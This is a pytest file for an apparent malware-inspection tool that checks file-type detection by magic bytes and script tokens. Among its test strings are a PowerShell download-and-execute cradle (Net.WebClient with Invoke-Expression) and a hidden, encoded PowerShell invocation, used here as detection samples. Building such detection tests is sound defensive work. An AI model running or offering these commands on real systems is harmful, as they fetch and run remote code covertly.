"""Type detection trusts content, not names; names only break ties between text languages."""

from __future__ import annotations

import gzip
import io
import zipfile

import pytest

from inspector.model import ArtifactType
from inspector.unpack.filetype import detect_type


def minimal_pe() -> bytes:
    header = bytearray(b"MZ" + b"\0" * 0x3A + (0x40).to_bytes(4, "little"))
    return bytes(header) + b"PE\0\0" + b"\0" * 64


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.ps1", "Write-Host hi")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (minimal_pe(), ArtifactType.PE),
        (b"\x7fELF\x02\x01\x01" + b"\0" * 60, ArtifactType.ELF),
        (zip_bytes(), ArtifactType.ZIP),
        (gzip.compress(b"hello"), ArtifactType.GZIP),
        (b"BZh91AY&SY", ArtifactType.BZIP2),
        (b"\xfd7zXZ\x00\x00", ArtifactType.XZ),
        (b"7z\xbc\xaf\x27\x1c\x00\x04", ArtifactType.SEVENZIP),
        (b"\x00\x01\x02\x03\xff\xfe\x00\x10" * 64, ArtifactType.UNKNOWN),
    ],
)
def test_magic_bytes_decide(data: bytes, expected: ArtifactType) -> None:
    assert detect_type(data) == expected


def test_a_pe_named_png_is_still_a_pe() -> None:
    assert detect_type(minimal_pe(), name_hint="https://x.example/cat.png") == ArtifactType.PE


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("$wc = New-Object Net.WebClient\nInvoke-Expression $wc.DownloadString('http://x')", ArtifactType.POWERSHELL),
        ("#!/bin/bash\napt-get update\nsystemctl enable nginx\n", ArtifactType.SHELL),
        ("@echo off\nset X=1\nif exist C:\\a goto end\n", ArtifactType.CMD),
        ("import os\ndef main():\n    pass\nif __name__ == '__main__':\n    main()\n", ArtifactType.PYTHON),
        ('{"properties": {"publisher": "Microsoft.Compute"}}', ArtifactType.JSON),
        ("just some words in a note", ArtifactType.TEXT),
        ("powershell -nop -w hidden -EncodedCommand SQBFAFgA", ArtifactType.POWERSHELL),
        ("pwsh.exe -c Get-Date", ArtifactType.POWERSHELL),
    ],
)
def test_script_language_by_tokens(text: str, expected: ArtifactType) -> None:
    assert detect_type(text.encode()) == expected


def test_utf16_powershell_is_recognised() -> None:
    text = "Get-Process | Where-Object { $_.CPU -gt 10 }\r\nWrite-Host done\r\n"
    assert detect_type(b"\xff\xfe" + text.encode("utf-16-le")) == ArtifactType.POWERSHELL
    assert detect_type(text.encode("utf-16-le")) == ArtifactType.POWERSHELL


def test_hint_chooses_the_language_of_short_text() -> None:
    assert detect_type(b"whoami", type_hint=ArtifactType.CMD) == ArtifactType.CMD
    assert detect_type(b"whoami", name_hint="run.sh") == ArtifactType.SHELL
